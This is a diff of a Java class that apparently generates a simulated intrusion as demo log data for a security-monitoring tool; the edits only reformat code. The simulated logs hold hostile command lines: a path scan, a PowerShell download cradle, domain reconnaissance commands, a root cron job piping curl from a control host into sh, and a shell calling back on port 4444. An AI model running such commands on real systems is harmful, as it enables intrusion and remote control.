@@ -1,8 +1,9 @@
 package org.spoolhound.web.demo;
 
+import org.spoolhound.web.demo.DemoRows.Program;
+
 import java.util.List;
 import java.util.Map;
-import org.spoolhound.web.demo.DemoRows.Program;
 
 /**
  * The attack: a web scan that leads nowhere, a mail that does, a guessed password, root on the jump
@@ -38,9 +39,20 @@ final class DemoAttack {
         DemoMachine web = fleet.machine("web-1");
         String tool = "sqlmap/1.9.11#stable (https://sqlmap.org)";
         for (String path : List.of(
-                "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/backup.sql",
-                "/server-status", "/admin", "/config.php.bak", "/old", "/test", "/api/v1/pods",
-                "/cgi-bin/test.cgi", "/console/", "/shell.php")) {
+                "/.env",
+                "/.git/config",
+                "/wp-login.php",
+                "/phpmyadmin/",
+                "/backup.sql",
+                "/server-status",
+                "/admin",
+                "/config.php.bak",
+                "/old",
+                "/test",
+                "/api/v1/pods",
+                "/cgi-bin/test.cgi",
+                "/console/",
+                "/shell.php")) {
             web.access(minute, STRANGER, "GET " + path, 404, tool);
         }
         for (String query : List.of(
@@ -74,8 +86,12 @@ final class DemoAttack {
                         + "/a.ps1')\"",
                 powershell);
         for (String command : List.of(
-                "whoami /all", "net user", "net group \"domain admins\"", "ipconfig /all",
-                "nltest /dclist:", "systeminfo")) {
+                "whoami /all",
+                "net user",
+                "net group \"domain admins\"",
+                "ipconfig /all",
+                "nltest /dclist:",
+                "systeminfo")) {
             started(pc, minute + 4, SYSTEM32 + "cmd.exe", command, powershell);
         }
         started(
@@ -127,8 +143,7 @@ final class DemoAttack {
         }
         jump.auth(
                 minute + 8,
-                "sshd[21100]: Accepted password for mkeller from " + STRANGER
-                        + " port 42100 ssh2");
+                "sshd[21100]: Accepted password for mkeller from " + STRANGER + " port 42100 ssh2");
     }
 
     private void rootOnTheJumpHost(int minute) {
@@ -168,8 +183,7 @@ final class DemoAttack {
                 DemoRows.unit("dbus-helper.timer", "D-Bus Helper Timer"));
         jump.syslog(minute + 8, "crontab[22500]: (root) REPLACE (root)");
         jump.syslog(
-                minute + 20,
-                "CRON[22600]: (root) CMD (curl -fsSL http://" + CONTROL + "/u | sh)");
+                minute + 20, "CRON[22600]: (root) CMD (curl -fsSL http://" + CONTROL + "/u | sh)");
         jump.appears(minute + 9, "nmap", DemoRows.installed("nmap", "7.95+dfsg-3"));
         runs(jump, minute + 12, 22_700, "/usr/bin/nmap", "nmap -sS 10.20.0.0/16");
         Program shell = new Program(
@@ -179,8 +193,7 @@ final class DemoAttack {
                 "root",
                 0.01);
         jump.appears(minute + 15, "22800", DemoRows.process(shell, "cron"));
-        jump.appears(
-                minute + 15, "control", DemoRows.connection(jump.ip(), CONTROL, 4444, shell));
+        jump.appears(minute + 15, "control", DemoRows.connection(jump.ip(), CONTROL, 4444, shell));
     }
 
     private void furtherMachines(int minute) {
